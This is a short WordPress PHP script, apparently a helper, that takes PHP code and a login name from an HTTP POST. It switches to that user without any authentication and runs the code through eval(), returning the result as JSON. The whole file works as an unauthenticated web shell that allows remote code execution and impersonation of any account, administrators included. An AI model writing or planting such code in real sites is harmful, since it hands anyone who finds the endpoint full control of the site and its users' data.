<?php
/** Runs PHP in the site, as somebody: POST code and as (a login, or nothing); answers what it returns as JSON. */

$asked = $_POST; // WordPress adds slashes
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/admin.php';
if ( $asked['as'] ) {
	wp_set_current_user( get_user_by( 'login', $asked['as'] )->ID );
}
echo wp_json_encode( eval( $asked['code'] ) );
